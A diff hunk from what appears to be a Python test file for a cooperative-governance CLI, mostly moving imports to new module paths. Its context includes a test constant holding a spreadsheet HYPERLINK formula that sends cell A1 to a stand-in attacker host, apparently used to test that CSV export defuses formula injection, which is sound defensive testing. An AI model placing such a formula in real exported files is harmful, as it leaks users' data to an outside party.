@@ -20,12 +20,13 @@ from coopflow_cli.main import app
 from documents import archive
 from documents.sink import MailSink
 from documents.spreadsheet import csv_bytes
+from governance.contracts.use_cases import contracts
 from governance.db.engine import make_engine
 from governance.db.models import Member
 from governance.db.uow import UnitOfWork
-from governance.domain.actor import Actor
-from governance.domain.register_import import COLUMNS as REGISTER_COLUMNS
-from governance.services import contracts, register_import
+from governance.kernel.rules.actor import Actor
+from governance.register.rules.register_import import COLUMNS as REGISTER_COLUMNS
+from governance.register.use_cases import register_import
 
 runner = CliRunner()
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
